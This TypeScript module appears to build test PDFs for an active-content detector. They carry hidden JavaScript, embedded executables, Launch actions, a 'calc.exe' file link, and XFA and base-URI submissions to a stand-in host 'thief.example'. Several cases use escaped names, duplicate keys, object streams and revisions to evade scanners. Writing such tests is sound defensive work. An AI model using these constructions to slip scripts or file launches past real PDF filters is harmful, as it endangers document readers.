/** Parts that run, send or carry something without being a plain action, and hidden parts. */
import { deflateSync } from 'node:zlib';
import { buildPdf, streamSource, textField, xrefRow } from '../build-pdf.ts';
import { ACTIONS, action, city, form, link, SCRIPT } from './actions-in-places.ts';

const file = streamSource(
  '/Type /EmbeddedFile /Subtype /application#2Foctet-stream',
  Buffer.from('MZ'),
);
const fileSpec = (number: number) =>
  `<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F ${number} 0 R >> >>`;

/** Parts that are not actions, in their own places. */
export const OTHER_ACTIVE_PARTS: Record<string, () => Uint8Array> = {
  'script of the document': () =>
    form({ catalog: `/Names << /JavaScript << /Names [(a) ${action('JavaScript')}] >> >>` }),
  'script of the document in a tree': () =>
    form({
      catalog: '/Names 6 0 R',
      fields: [
        city,
        '<< /JavaScript 7 0 R >>',
        '<< /Kids [8 0 R] >>',
        `<< /Limits [(a) (a)] /Names [(a) 9 0 R] >>`,
        `<< /S /JavaScript /JS 10 0 R >>`,
        streamSource('/Filter /FlateDecode', deflateSync('app.alert(1)')),
      ],
      listed: [5],
      annotations: [5],
    }),
  'embedded file': () =>
    form({
      catalog: `/Names << /EmbeddedFiles << /Names [(a.exe) ${fileSpec(6)}] >> >>`,
      fields: [city, file],
      listed: [5],
      annotations: [5],
    }),
  'associated file': () =>
    form({ catalog: `/AF [${fileSpec(6)}]`, fields: [city, file], listed: [5], annotations: [5] }),
  'file attachment': () =>
    form({
      fields: [
        city,
        `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${fileSpec(7)} >>`,
        file,
      ],
      listed: [5],
      annotations: [5, 6],
    }),
  collection: () => form({ catalog: '/Collection << /Type /Collection /View /D >>' }),
  'rich media': () =>
    form({
      fields: [
        city,
        `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(a.swf) ${fileSpec(7)}] >> >> >>`,
        file,
      ],
      listed: [5],
      annotations: [5, 6],
    }),
  screen: () =>
    form({
      fields: [
        city,
        `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A ${action('Rendition')} >>`,
      ],
      listed: [5],
      annotations: [5, 6],
    }),
  '3D': () =>
    form({
      fields: [
        city,
        '<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 7 0 R >>',
        streamSource('/Type /3D /Subtype /U3D /OnInstantiate 8 0 R', Buffer.from('x')),
        streamSource('', Buffer.from('host.getURL(1)')),
      ],
      listed: [5],
      annotations: [5, 6],
    }),
  movie: () =>
    form({
      fields: [city, '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>'],
      listed: [5],
      annotations: [5, 6],
    }),
  sound: () =>
    form({
      fields: [
        city,
        `<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound 7 0 R >>`,
        streamSource('/Type /Sound /R 8000', Buffer.from('x')),
      ],
      listed: [5],
      annotations: [5, 6],
    }),
  renditions: () =>
    form({
      catalog: `/Names << /Renditions << /Names [(a) << /S /MR /N (a) /C << /S /MCD /D (a.avi) >> >>] >> >>`,
    }),
  'steps of a presentation': () =>
    form({ page: `/PresSteps << /Type /NavNode /NA ${action('JavaScript')} >>` }),
  requirement: () =>
    form({ catalog: `/Requirements [<< /S /EnableJavaScripts /RH [<< /S /JS /Script (a) >>] >>]` }),
  XFA: () =>
    form({
      acroForm: '/XFA 6 0 R',
      fields: [
        city,
        streamSource(
          '',
          Buffer.from(
            '<xdp:xdp><script>xfa.host.gotoURL("x")</script><submit target="https://thief.example"/></xdp:xdp>',
          ),
        ),
      ],
      listed: [5],
      annotations: [5],
    }),
  'base of addresses': () => form({ catalog: '/URI << /Base (https://thief.example/) >>' }),
  'link that runs': () =>
    form({ fields: [city, link(`/A ${action('JavaScript')}`)], listed: [5], annotations: [5, 6] }),
  'link to another scheme': () =>
    form({
      fields: [city, link('/A << /S /URI /URI (file:///C:/calc.exe) >>')],
      listed: [5],
      annotations: [5, 6],
    }),
  'link that is a field': () =>
    form({
      fields: [city, link(`/FT /Tx /T (x) /A ${action('URI')}`)],
      listed: [5],
      annotations: [5, 6],
    }),
  'link with a chain': () =>
    form({
      fields: [
        city,
        link(`/A << /S /URI /URI (https://insurer.example/) /Next ${action('Launch')} >>`),
      ],
      listed: [5],
      annotations: [5, 6],
    }),
  'link with an older address': () =>
    form({
      fields: [city, link(`/A << /S /GoTo /D [3 0 R /Fit] >> /PA ${action('URI')}`)],
      listed: [5],
      annotations: [5, 6],
    }),
  'escaped names': () =>
    form({ catalog: `/Open#41ction << /#53 /J#61v#61Script /J#53 (${SCRIPT}) >>` }),
  'names that stand twice': () =>
    form({ catalog: `/OpenAction << /S /JavaScript /JS (a) /S /GoTo /D [3 0 R /Fit] >>` }),
  'an address that another reader sees': () =>
    form({
      catalog: '/OpenAction << /S /URI /URI (https://thief.example/) /S /GoTo /D [3 0 R /Fit] >>',
    }),
  'a trigger that stands twice': () =>
    form({ page: `/AA << /O ${action('JavaScript')} >> /AA null` }),
  'type by reference': () =>
    form({
      catalog: '/OpenAction 6 0 R',
      fields: [city, '<< /S 7 0 R /JS 8 0 R >>', '/JavaScript', '(app.alert\\(1\\))'],
      listed: [5],
      annotations: [5],
    }),
  'cycle of actions': () =>
    form({
      catalog: '/OpenAction 6 0 R',
      fields: [
        city,
        '<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 7 0 R] >>',
        `<< ${ACTIONS.Launch} /Next 6 0 R >>`,
      ],
      listed: [5],
      annotations: [5],
    }),
  'one action of many fields': () =>
    form({
      fields: [
        `<< ${ACTIONS.SubmitForm} >>`,
        ...Array.from({ length: 500 }, (_, i) => textField(`f${i}`, '/AA << /Fo 5 0 R >>')),
      ],
      listed: Array.from({ length: 500 }, (_, i) => i + 6),
      annotations: Array.from({ length: 500 }, (_, i) => i + 6),
    }),
  'a thousand actions': () =>
    form({
      fields: Array.from({ length: 1_000 }, (_, i) =>
        textField(`f${i}`, `/AA << /K ${action('JavaScript')} >>`),
      ),
    }),
  // A text field's value can be a stream (section 12.7.4.3), whose data can be in another file.
  'answer of another file': () =>
    form({
      fields: [city, textField('Notes', '/V 7 0 R'), streamSource('/F (other.pdf)', Buffer.of())],
      listed: [5, 6],
      annotations: [5, 6],
    }),
  'action of the form tree': () =>
    form({
      fields: [
        '<< /T (Parent) /FT /Tx /Kids [6 0 R] /AA << /C 7 0 R >> >>',
        '<< /Type /Annot /Subtype /Widget /Parent 5 0 R /T (City) /Rect [0 0 9 9] >>',
        `<< ${ACTIONS.JavaScript} >>`,
      ],
      listed: [5],
      annotations: [6],
    }),
  'action in a private place': () =>
    form({
      catalog: `/PieceInfo << /Maker << /Private << /Do 6 0 R >> >> >>`,
      fields: [city, `<< ${ACTIONS.Launch} >>`],
      listed: [5],
      annotations: [5],
    }),
  'page of another file': () =>
    form({
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      fields: [
        city,
        streamSource(
          '/Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>',
          Buffer.from(''),
        ),
      ],
      listed: [5],
      annotations: [5],
    }),
  'data of another file': () =>
    form({
      page: '/Contents 6 0 R',
      fields: [city, streamSource('/F (data.bin)', Buffer.from(''))],
      listed: [5],
      annotations: [5],
    }),
  'compressed objects': () => packed(),
  'an older revision': () => revised(),
  'an object that nothing leads to': () =>
    form({ fields: [city, `<< ${ACTIONS.JavaScript} >>`], listed: [5], annotations: [5] }),
};

/** The catalog's open action in an object stream. */
function packed(): Uint8Array {
  const inside = `8 0 << ${ACTIONS.JavaScript} >>`;
  const first = inside.indexOf('<<');
  const container = streamSource(
    `/Type /ObjStm /N 1 /First ${first} /Filter /FlateDecode`,
    deflateSync(inside),
  );
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R /AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf 0 g) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
    city,
    container,
  ];
  // Without an intact cross-reference table, readers find the objects by their `obj` marks.
  const bytes = Buffer.from(buildPdf(objects));
  return new Uint8Array(
    Buffer.from(bytes.toString('latin1').replace(/startxref\n\d+/, 'startxref\n1'), 'latin1'),
  );
}

/** A form whose open action a later revision withdrew. */
function revised(): Uint8Array {
  const before = Buffer.from(
    form({
      catalog: `/OpenAction 6 0 R`,
      fields: [city, `<< ${ACTIONS.JavaScript} >>`],
      listed: [5],
      annotations: [5],
    }),
  ).toString('latin1');
  const at = before.length;
  const object = '6 0 obj\n[3 0 R /Fit]\nendobj\n';
  const previous = /startxref\n(\d+)/.exec(before)?.[1];
  const xref = at + object.length;
  return new Uint8Array(
    Buffer.from(
      `${before}${object}xref\n6 1\n${xrefRow(at)}trailer\n<< /Size 7 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${xref}\n%%EOF\n`,
      'latin1',
    ),
  );
}
